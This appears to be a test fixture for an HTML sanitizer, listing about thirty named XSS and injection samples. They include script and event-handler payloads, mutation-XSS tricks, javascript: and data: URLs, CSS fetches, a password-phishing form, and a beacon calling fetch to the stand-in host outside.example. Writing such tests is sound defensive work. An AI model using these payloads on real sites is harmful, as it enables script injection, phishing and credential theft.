// Messages made to do harm in the reader's browser. Each tries to run `pwned()`, to reach outside.example, to cover our
// page or to take it away. What a reader should still see is the word "czytelne".

const OUT = "https://outside.example";
const run = "parent.pwned=1;window.pwned=1;top.pwned=1;fetch('https://outside.example/ran')";

/** Name and HTML of each. */
export const samples = [
  ["a script", `<script>${run}</script><p>czytelne</p>`],
  ["a script from elsewhere", `<script src="${OUT}/a.js"></script><p>czytelne</p>`],
  ["a script in broken tags", `<scr<script>ipt>${run}</scr</script>ipt><p>czytelne</p>`],
  ["an error handler", `<img src="x" onerror="${run}"><p>czytelne</p>`],
  ["handlers without quotes or spaces", `<p>czytelne</p><svg/onload=${run}><body onload=${run}><input autofocus onfocus=${run}>`],
  ["a script in a picture", `<svg><script>${run}</script><a xlink:href="javascript:${run}"><text y="9">x</text></a></svg><p>czytelne</p>`],
  ["animated attributes", `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="9">klik</text></a></svg><p>czytelne</p>`],
  ["foreign content that mends itself", `<p>czytelne</p><math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`],
  ["a comment that is none", `<!--><img src=x onerror=${run}>--><p>czytelne</p>`],
  ["a template and noscript", `<template><img src=x onerror=${run}></template><noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><p>czytelne</p>`],
  ["an address that runs", `<a href="javascript:${run}">czytelne</a> <a href="jav&#x09;ascript:${run}">x</a> <a href=" data:text/html,<script>${run}</script>">y</a>`],
  ["addresses in styles", `<style>body{background:url(${OUT}/bg.png)} @import "${OUT}/a.css"; @font-face{font-family:x;src:url(${OUT}/f.woff)} p{font-family:x}</style><p style="background-image:url('${OUT}/p.png')">czytelne</p>`],
  ["addresses hidden in styles", `<p style="background:u\\72 l(${OUT}/e.png);list-style:url(&quot;${OUT}/l.png&quot;);content:image-set('${OUT}/i.png' 1x)">czytelne</p>`],
  ["a style sheet from elsewhere", `<link rel="stylesheet" href="${OUT}/a.css"><link rel="preload" as="image" href="${OUT}/p.png"><link rel="dns-prefetch" href="//outside.example"><link rel="preconnect" href="${OUT}"><link rel="prefetch" href="${OUT}/n"><p>czytelne</p>`],
  ["a page that moves on", `<meta http-equiv="refresh" content="0;url=${OUT}/moved"><p>czytelne</p>`],
  ["a form", `<form action="${OUT}/phish" method="post"><p>czytelne</p><input name="password" type="password"><button>Zaloguj</button></form><button formaction="${OUT}/f">x</button>`],
  ["another base", `<base href="${OUT}/"><p>czytelne</p><img src="rel.png"><a href="rel">x</a>`],
  ["frames", `<iframe src="${OUT}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><frameset><frame src="${OUT}/f"></frameset><p>czytelne</p>`],
  ["objects", `<object data="${OUT}/o.swf"></object><embed src="${OUT}/e.svg"><applet code="x"></applet><p>czytelne</p>`],
  ["media", `<video src="${OUT}/v.mp4" poster="${OUT}/v.png" autoplay></video><audio src="${OUT}/a.mp3" autoplay></audio><picture><source srcset="${OUT}/s.png"><img src="${OUT}/i.png" srcset="${OUT}/i2.png 2x" alt=""></picture><p>czytelne</p>`],
  ["old ways to fetch", `<table background="${OUT}/t.png"><tr><td background="${OUT}/td.png">czytelne</td></tr></table><input type="image" src="${OUT}/in.png"><img dynsrc="${OUT}/d" lowsrc="${OUT}/l"><a href="https://kronika.example" ping="${OUT}/ping">x</a>`],
  ["a cover over the page", `<div style="position:fixed;inset:0;z-index:99999;background:red">Zaloguj się ponownie</div><p>czytelne</p>`],
  ["data addresses", `<img src="data:text/html,<script>${run}</script>"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>"><iframe src="data:text/html,<script>${run}</script>"></iframe><p>czytelne</p>`],
  ["pictures in pictures", `<svg><image href="${OUT}/s.png"/><use href="${OUT}/u.svg#a"/><filter id="f"><feImage href="${OUT}/fe.png"/></filter></svg><p>czytelne</p>`],
  ["a message within a message", `<div><div><div><iframe srcdoc="&lt;iframe srcdoc='&amp;lt;img src=${OUT}/nested.png&amp;gt;'&gt;"></iframe></div></div></div><p>czytelne</p>`],
  ["the end of our own page", `</body></html></iframe></details></main><script>${run}</script><img src="${OUT}/x.png"><p>czytelne</p>`],
  ["our own addresses", `<img src="/sign-out"><form action="/sign-out" method="post"><button id="out">x</button></form><img src="/interactions/1/parts/1"><p>czytelne</p>`],
  ["names of our own parts", `<div id="main"></div><form id="picker"><input name="action"></form><img name="htmx"><a id="htmx"></a><p hx-get="/clients" hx-trigger="load" data-act="assign" data-unfold="open">czytelne</p>`],
  ["ten thousand layers", `${"<div>".repeat(10_000)}<p>czytelne</p>`],
];
